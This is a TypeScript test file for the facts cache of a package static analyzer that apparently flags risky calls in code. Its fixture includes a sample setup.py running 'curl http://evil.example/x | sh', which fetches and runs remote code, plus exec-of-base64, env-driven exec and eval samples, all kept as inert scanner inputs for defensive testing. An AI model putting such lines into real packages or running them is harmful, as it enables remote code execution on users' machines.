import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { describe, it } from 'node:test';
import { serialize } from 'node:v8';
import type { PackageFile } from '../../artifacts/types.ts';
import { analyzePackage } from '../analyze-package.ts';
import type { BatchFile, BatchFileResult } from './batch.ts';
import {
  cacheable,
  decodeFacts,
  encodeFacts,
  type FactsCache,
  type FactsKey,
  type FactsPayload,
  factsKeyId,
  factsVariant,
  MAX_FACTS_PAYLOAD_BYTES,
} from './facts-cache.ts';
import { encodeTree } from './facts-codec.ts';
import { analyzerFingerprint } from './fingerprint.ts';

/** A cache in memory that counts what it is asked. */
class MemoryCache implements FactsCache {
  readonly rows = new Map<string, Uint8Array>();
  gets = 0;
  hits = 0;
  puts = 0;
  async getFacts(analyzer: string, keys: readonly FactsKey[]): Promise<Map<string, Uint8Array>> {
    this.gets += keys.length;
    const out = new Map<string, Uint8Array>();
    for (const key of keys) {
      const row = this.rows.get(`${analyzer}|${factsKeyId(key)}`);
      if (row !== undefined) out.set(factsKeyId(key), row);
    }
    this.hits += out.size;
    return out;
  }
  async putFacts(analyzer: string, entries: readonly FactsPayload[]): Promise<void> {
    this.puts += entries.length;
    for (const entry of entries) this.rows.set(`${analyzer}|${factsKeyId(entry)}`, entry.payload);
  }
}

/** A payload of the current layout around any body: the digest is right, so only the decoder can refuse it. */
function withDigest(body: Buffer): Buffer {
  return Buffer.concat([Buffer.from([0xa6]), createHash('sha256').update(body).digest(), body]);
}

function file(path: string, text: string): PackageFile {
  return { path, data: Buffer.from(text) };
}

const PACKAGE: PackageFile[] = [
  file(
    'pkg/setup.py',
    "import os, base64\nos.system('curl http://evil.example/x | sh')\nx = 1e999\ny = -0.0\n",
  ),
  file('pkg/a.py', "import subprocess as sp\nsp.Popen(['ls'], shell=True)\ns = 'a' + 'b'\n"),
  file('pkg/broken.py', 'def (:\n  exec(base64.b64decode("aGk="))\n'),
  file(
    'lib/index.js',
    "const cp = require('child_process');\ncp.exec(process.env.CMD);\nfetch('https://x.example/a');\n",
  ),
  file('lib/types.d.ts', 'export declare function f(): void;\n'),
  file('lib/view.tsx', 'export const V = () => <div onClick={() => eval(x)} />;\n'),
  file('README.md', 'see https://docs.example/readme'),
  // The same bytes under two names: analyzed once, reported under both.
  file('pkg/copy_a.py', "import os\nos.remove('/tmp/x')\n"),
  file('pkg/copy_b.py', "import os\nos.remove('/tmp/x')\n"),
];

describe('facts cache', () => {
  it('gives the same facts with and without the cache, and analyzes nothing the second time', async () => {
    const plain = await analyzePackage(PACKAGE, { workers: 1 });
    const cache = new MemoryCache();
    const first = await analyzePackage(PACKAGE, { workers: 1, factsCache: cache });
    assert.deepStrictEqual(first, plain);
    assert.equal(cache.hits, 0);
    // Seven distinct source contents (the two copies are one).
    assert.equal(cache.puts, 7);
    const second = await analyzePackage(PACKAGE, { workers: 1, factsCache: cache });
    assert.deepStrictEqual(second, plain);
    assert.equal(cache.hits, 7);
    assert.equal(cache.puts, 7, 'nothing new to store');
  });

  it('gives a file met under another name its own path', async () => {
    const cache = new MemoryCache();
    await analyzePackage([file('old/name.py', 'import os\nos.system(cmd)\n')], {
      workers: 1,
      factsCache: cache,
    });
    const moved = await analyzePackage([file('new/place.py', 'import os\nos.system(cmd)\n')], {
      workers: 1,
      factsCache: cache,
    });
    assert.equal(cache.hits, 1);
    const fresh = await analyzePackage([file('new/place.py', 'import os\nos.system(cmd)\n')], { workers: 1 });
    assert.deepStrictEqual(moved, fresh);
    assert.ok(JSON.stringify(moved).includes('new/place.py'));
    assert.ok(!JSON.stringify(moved).includes('old/name.py'));
  });

  it('keeps a literal that names its own file when the file moves', async () => {
    const cache = new MemoryCache();
    const text = "import os\nos.remove('old/name.py')\n";
    await analyzePackage([file('old/name.py', text)], { workers: 1, factsCache: cache });
    const moved = await analyzePackage([file('new/place.py', text)], { workers: 1, factsCache: cache });
    assert.equal(cache.hits, 1);
    assert.deepStrictEqual(moved, await analyzePackage([file('new/place.py', text)], { workers: 1 }));
    assert.ok(JSON.stringify(moved).includes('old/name.py'));
  });

  it('keys on what the name selects, and on the per-file budgets', () => {
    assert.equal(factsVariant('a/b.py', 'python'), 'python');
    assert.equal(factsVariant('a/b.ts', 'typescript'), 'typescript');
    assert.equal(factsVariant('a/b.TSX', 'typescript'), 'tsx');
    assert.equal(factsVariant('a/b.d.mts', 'typescript'), 'typescript-declaration');
    assert.notEqual(analyzerFingerprint({}), analyzerFingerprint({ work: { walkNodes: 10 } }));
    assert.notEqual(analyzerFingerprint({}), analyzerFingerprint({ maxBytes: 100 }));
    // The whole-scan budget picks files, it does not change one file's facts.
    assert.equal(analyzerFingerprint({}), analyzerFingerprint({ work: { scanSourceBytes: 10 } }));
  });

  it('keeps numbers JSON would lose', () => {
    const target: BatchFile = { index: 0, path: 'x.py', language: 'python', data: Buffer.from('') };
    const result: BatchFileResult = {
      index: 0,
      facts: {
        file: 'x.py',
        language: 'python',
        imports: [],
        calls: [
          {
            file: 'x.py',
            line: 1,
            column: 1,
            callee: 'f',
            resolved: false,
            args: [
              { kind: 'number', value: Number.NaN },
              { kind: 'number', value: -0 },
              { kind: 'number', value: Number.POSITIVE_INFINITY },
            ],
            keywords: [],
            snippet: 'f(...)',
            scope: 'module',
          },
        ],
        strings: [],
        constructs: [],
        partial: false,
      },
      problems: [],
      urls: [],
    };
    const payload = encodeFacts(result);
    assert.ok(payload !== undefined);
    const { index: _, ...stored } = result;
    assert.deepStrictEqual(decodeFacts(payload, target), stored);
  });

  it('ignores a corrupt, forged or oversized row and analyzes the file again', async () => {
    const source = [file('pkg/a.py', "import os\nos.system('x')\n")];
    const cache = new MemoryCache();
    const plain = await analyzePackage(source, { workers: 1, factsCache: cache });
    const [key] = [...cache.rows.keys()];
    assert.ok(key !== undefined);
    const good = cache.rows.get(key) ?? new Uint8Array();
    const target: BatchFile = {
      index: 0,
      path: 'pkg/a.py',
      language: 'python',
      data: source[0]?.data ?? Buffer.from(''),
    };
    assert.ok(decodeFacts(good, target) !== undefined);

    // One flipped bit: the digest no longer matches.
    const flipped = Buffer.from(good);
    flipped[flipped.length - 3] = (flipped[flipped.length - 3] ?? 0) ^ 1;
    // A well-formed payload of the wrong shape, with a correct digest: a call whose args is not a list.
    const body = encodeTree(
      {
        facts: {
          file: 'pkg/a.py',
          language: 'python',
          imports: [],
          calls: [{ file: 'pkg/a.py', line: 1, column: 1, args: 'no' }],
          strings: [],
          constructs: [],
          partial: false,
        },
        problems: [],
        urls: [],
      },
      'pkg/a.py',
    );
    assert.ok(body !== undefined);
    const forged = withDigest(body);
    // A row of the previous layout (V8's serializer over an envelope with the path), digest and all.
    const envelope = decodeFacts(good, target);
    const previous = serialize({ path: 'pkg/a.py', ...envelope });
    const older = Buffer.concat([
      Buffer.from([0xa5]),
      createHash('sha256').update(previous).digest(),
      previous,
    ]);
    // Facts that claim another language than the file's.
    const javascript: BatchFile = { ...target, language: 'javascript' };
    assert.equal(decodeFacts(good, javascript), undefined);
    for (const bad of [
      flipped,
      forged,
      older,
      withDigest(serialize(envelope)),
      good.subarray(0, 10),
      new Uint8Array(MAX_FACTS_PAYLOAD_BYTES + 1),
    ]) {
      assert.equal(decodeFacts(bad, target), undefined);
      cache.rows.set(key, bad);
      const again = await analyzePackage(source, { workers: 1, factsCache: cache });
      assert.deepStrictEqual(again, plain);
    }
  });

  it('never stores a crash, and a failing cache is no cache', async () => {
    assert.equal(
      cacheable({
        index: 0,
        problems: [{ file: 'a.py', kind: 'analyzer-crash', message: 'out of memory' }],
        urls: [],
      }),
      false,
    );
    const broken: FactsCache = {
      getFacts: async () => {
        throw new Error('database is locked');
      },
      putFacts: async () => {
        throw new Error('disk full');
      },
    };
    const plain = await analyzePackage(PACKAGE, { workers: 1 });
    assert.deepStrictEqual(await analyzePackage(PACKAGE, { workers: 1, factsCache: broken }), plain);
  });
});
